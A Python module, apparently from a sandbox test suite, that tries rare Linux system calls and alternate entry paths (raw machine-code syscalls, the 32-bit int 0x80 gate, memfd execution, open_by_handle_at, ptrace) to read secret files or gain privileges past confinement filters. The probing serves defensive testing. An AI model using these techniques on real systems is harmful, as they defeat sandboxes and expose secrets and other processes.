"""Attacks through rarely needed system calls, and through other ways of calling them."""

import ctypes
import mmap
import os
import struct
import subprocess
from pathlib import Path

from .prelude import LIBC, NEW_USER, NUMBERS, Targets, expose, in_child, refuse, syscall


def set_up_io_uring(_: Targets) -> str:
    os.close(syscall("io_uring_setup", 4, ctypes.create_string_buffer(120)))
    return "made an io_uring"


def add_key(_: Targets) -> str:
    process_keyring = -2
    return f"added key {syscall('add_key', b'user', b'hostile', b'payload', 7, process_keyring)}"


def load_bpf(_: Targets) -> str:
    map_create, kind_array = 0, 2
    attributes = struct.pack("IIII", kind_array, 4, 4, 1) + bytes(112)
    os.close(syscall("bpf", map_create, attributes, len(attributes)))
    return "made a bpf map"


def open_perf_event(_: Targets) -> str:
    software, task_clock, exclude_kernel_and_hypervisor = 1, 1, 0b1100000
    attributes = struct.pack("IIQQQQQ", software, 112, task_clock, 0, 0, 0, exclude_kernel_and_hypervisor) + bytes(64)
    os.close(syscall("perf_event_open", attributes, 0, -1, -1, 0))
    return "opened a performance counter"


def open_userfaultfd(_: Targets) -> str:
    user_mode_only = 1
    os.close(syscall("userfaultfd", user_mode_only))
    return "opened a userfaultfd"


def change_personality(_: Targets) -> str:
    no_randomize = 0x0040000

    def change() -> str:
        syscall("personality", no_randomize)
        if not syscall("personality", 0xFFFFFFFF) & no_randomize:
            raise refuse("the personality did not change")
        return "switched address randomisation off"

    return in_child(change)


def read_kernel_log(_: Targets) -> str:
    read_all = 3
    return f"read {syscall('syslog', read_all, ctypes.create_string_buffer(4096), 4096)} bytes of the kernel log"


def open_by_handle(targets: Targets) -> str:
    """The handle needs no path, so it walks past every mount and root."""
    kind, raw = targets["secret_handle"]
    handle = bytes.fromhex(raw)
    directory = os.open(targets["project"], os.O_RDONLY | os.O_DIRECTORY)
    fd = syscall("open_by_handle_at", directory, struct.pack("Ii", len(handle), kind) + handle, os.O_RDONLY)
    return expose(os.read(fd, 4096), targets)


def adjust_clock(_: Targets) -> str:
    """Writes the clock's error estimate back as it is: the right to do so is the right to set the time."""
    set_estimate = 0x8
    timex = ctypes.create_string_buffer(208)
    syscall("adjtimex", timex)
    struct.pack_into("I", timex, 0, set_estimate)
    syscall("adjtimex", timex)
    return "may set the clock"


def take_realtime_priority(_: Targets) -> str:
    def take() -> str:
        os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(1))
        os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))
        return "had realtime priority"

    return in_child(take)


def raise_own_priority(_: Targets) -> str:
    def take() -> str:
        os.setpriority(os.PRIO_PROCESS, 0, -10)
        return "had priority -10"

    return in_child(take)


def make_device_node(targets: Targets) -> str:
    node = Path(targets["project"], "device")
    os.mknod(node, 0o600 | 0o020000, os.makedev(1, 5))
    with node.open("rb") as device:
        return f"read {len(device.read(8))} bytes of a device made here"


def run_setuid_binary(targets: Targets) -> str:
    done = subprocess.run([targets["setuid_id"], "-u"], capture_output=True, text=True, check=False)
    if done.returncode or done.stdout.strip() != "0":
        raise refuse(f"effective uid {done.stdout.strip()!r} {done.stderr.strip()}")
    if os.geteuid() == 0:
        raise refuse("was root before")
    return "had effective uid 0"


def execute_memfd(targets: Targets) -> str:
    """A program that is in no file system reads the secret."""
    memory = syscall("memfd_create", b"cat", 0)
    os.write(memory, Path("/usr/bin/cat").read_bytes())
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        os.dup2(writer, 1)
        arguments = (ctypes.c_char_p * 3)(b"cat", targets["home_secret"].encode(), None)
        LIBC.syscall(NUMBERS["execveat"], memory, b"", arguments, (ctypes.c_char_p * 1)(None), 0x1000)
        os._exit(126)
    os.close(writer)
    with os.fdopen(reader, "rb") as pipe:
        said = pipe.read()
    os.waitpid(child, 0)
    return expose(said, targets)


# ── other ways into the same calls (x86_64) ──


def call_by_own_machine_code(targets: Targets) -> str:
    """`openat` and `read` by a `syscall` instruction of our own, past libc and whatever was hooked there."""
    code = bytes.fromhex("4889f8 4889f7 4889d6 4889ca 4d89c2 4d89c8 0f05 c3")
    call = machine_code(code)
    fd = call(NUMBERS["openat"], -100, address_of(targets["home_secret"].encode()), os.O_RDONLY, 0)
    if fd < 0:
        raise OSError(-fd, "openat")
    buffer = ctypes.create_string_buffer(256)
    call(NUMBERS["read"], fd, ctypes.addressof(buffer), 256, 0)
    return expose(buffer.raw, targets)


def call_by_32_bit_gate(_: Targets) -> str:
    """`int 0x80` enters with 32-bit call numbers, which a filter of 64-bit numbers reads as something else."""
    unshare_in_32_bit = 310
    call = machine_code(bytes.fromhex("53 89f8 89f3 87d1 cd80 5b c3"))

    def unshare() -> str:
        result = ctypes.c_int(call(unshare_in_32_bit, NEW_USER, 0, 0, 0)).value
        if result < 0:
            raise OSError(-result, "unshare by int 0x80")
        return "made a user namespace by int 0x80"

    return in_child(unshare)


def call_by_32_bit_gate_ptrace(targets: Targets) -> str:
    """The same door to another process, which is let go when this one ends."""
    ptrace_in_32_bit, seize = 26, 0x4206
    call = machine_code(bytes.fromhex("53 56 89f8 89f3 87d1 31f6 cd80 5e 5b c3"))
    result = ctypes.c_int(call(ptrace_in_32_bit, seize, targets["victim_pid"], 0, 0)).value
    if result < 0:
        raise OSError(-result, "ptrace by int 0x80")
    return "seized the victim by int 0x80"


def machine_code(code: bytes) -> "ctypes._CFunctionType":
    page = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    PAGES.append(page)
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 5)(start)


def address_of(text: bytes) -> int:
    buffer = ctypes.create_string_buffer(text)
    BUFFERS.append(buffer)
    return ctypes.addressof(buffer)


PAGES: list[mmap.mmap] = []
BUFFERS: "list[ctypes.Array[ctypes.c_char]]" = []
